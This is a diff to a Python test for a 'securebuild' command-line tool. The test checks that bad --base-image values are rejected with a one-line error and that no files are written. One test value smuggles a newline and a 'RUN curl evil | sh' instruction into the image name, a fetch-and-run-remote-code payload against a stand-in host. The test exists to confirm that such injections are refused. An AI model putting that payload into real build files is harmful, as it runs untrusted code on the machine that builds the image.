@@ -65,11 +65,17 @@ def test_init_keeps_existing_files_unless_forced(tmp_path: Path) -> None:
 
 
 def test_init_bad_input(tmp_path: Path) -> None:
-    """A bad --entry or --python is one line, and nothing is written."""
+    """A bad --entry, --python or --base-image is one line, and nothing is written."""
     done = _init(tmp_path, "--entry", "not a module")
     assert done.returncode == 2
     assert done.stderr.startswith("securebuild: error: --entry")
     assert list(tmp_path.iterdir()) == []
+    for image in ("python 3.12", "python:3.12\nRUN curl evil | sh", "Python:3.12"):
+        done = _init(tmp_path, "--base-image", image)
+        assert done.returncode == 2
+        assert done.stderr.startswith("securebuild: error: --base-image")
+        assert "Traceback" not in done.stderr
+        assert list(tmp_path.iterdir()) == []
 
 
 def test_init_refuses_what_it_cannot_write_before_writing_anything(tmp_path: Path) -> None:
